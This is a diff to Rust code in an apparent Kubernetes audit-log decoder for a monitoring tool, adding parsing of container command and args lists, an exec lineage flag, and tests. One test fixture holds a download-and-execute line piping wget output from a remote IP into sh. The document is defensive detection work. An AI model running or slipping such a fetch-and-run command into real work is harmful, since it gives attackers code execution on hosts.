@@ -23,8 +23,8 @@
 use crate::util::{opt_string, rfc3339, truncate, Text};
 use crate::{DecodeError, RecordCtx};
 use pullwatch_model::{
-    ContainerAddress, ContainerRef, Event, EventKind, Format, ImageRef, Placement, PodBinding,
-    PodContainerKind, PodContainerSpec, PodCreate, ProcessExec, Ts,
+    ContainerAddress, ContainerRef, Event, EventKind, Format, ImageRef, Lineage, Placement,
+    PodBinding, PodContainerKind, PodContainerSpec, PodCreate, ProcessExec, Ts,
 };
 use serde::Deserialize;
 use serde_json::value::RawValue;
@@ -240,6 +240,11 @@ struct Container<'a> {
     image: Option<Text<'a>>,
     #[serde(borrow)]
     image_pull_policy: Option<Text<'a>>,
+    /// Read leniently: a malformed list costs the list, not the pod.
+    #[serde(borrow)]
+    command: Option<&'a RawValue>,
+    #[serde(borrow)]
+    args: Option<&'a RawValue>,
 }
 
 #[derive(Deserialize)]
@@ -621,8 +626,17 @@ fn push_specs(
             image_raw: image_raw.to_string(),
             pull_policy: Some(pull_policy),
             kind,
+            command: words(&c.command),
+            args: words(&c.args),
         });
     }
+}
+
+/// A pod spec's `command` or `args` list, as written; empty when it is not a list of
+/// strings (which the API server would have refused).
+fn words(list: &Option<&RawValue>) -> Vec<String> {
+    list.and_then(|raw| serde_json::from_str::<Vec<String>>(raw.get()).ok())
+        .unwrap_or_default()
 }
 
 /// Binding at `Metadata` level has no request body, hence no node, and emits nothing.
@@ -784,6 +798,10 @@ fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
         parent_exe: None,
         // The Kubernetes user who ran the command: the process user is not known.
         user: rec.actor(),
+        lineage: Lineage {
+            exec: true,
+            ..Lineage::default()
+        },
     })))
 }
 
@@ -924,6 +942,29 @@ mod tests {
     }
 
     #[test]
+    fn pod_create_keeps_command_and_args() {
+        let e = one(&rec(
+            r#""level":"Request","stage":"ResponseComplete","verb":"create",
+            "objectRef":{"resource":"pods","namespace":"shop","name":"web"},"responseStatus":{"code":201},
+            "requestObject":{"metadata":{"name":"web"},"spec":{"containers":[
+                {"name":"nginx","image":"nginx:1.28","command":["/docker-entrypoint.sh"],"args":["nginx","-g","daemon off;"]},
+                {"name":"args-only","image":"nginx:1.28","args":["nginx-debug"]},
+                {"name":"odd","image":"nginx:1.28","command":"not a list","args":[1,2]}]}}"#,
+        ));
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
+        let c = &p.containers;
+        assert_eq!(c.len(), 3);
+        assert_eq!(c[0].command, ["/docker-entrypoint.sh"]);
+        assert_eq!(c[0].args, ["nginx", "-g", "daemon off;"]);
+        assert!(c[1].command.is_empty());
+        assert_eq!(c[1].args, ["nginx-debug"]);
+        // Malformed lists cost the list, not the pod.
+        assert!(c[2].command.is_empty() && c[2].args.is_empty());
+    }
+
+    #[test]
     fn generate_name_without_response_is_a_marked_prefix() {
         let e = one(&rec(
             r#""level":"Request","stage":"ResponseComplete","verb":"create",
@@ -1013,6 +1054,8 @@ mod tests {
         assert_eq!(&*p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c wget -qO- http://198.51.100.4/s|sh");
         assert_eq!(p.user.as_deref(), Some("alice"));
+        // Never the container's own start-up, whatever its command line.
+        assert!(p.lineage.exec && !p.lineage.is_startup());
         let Placement::Container(c) = p.placement else {
             panic!()
         };
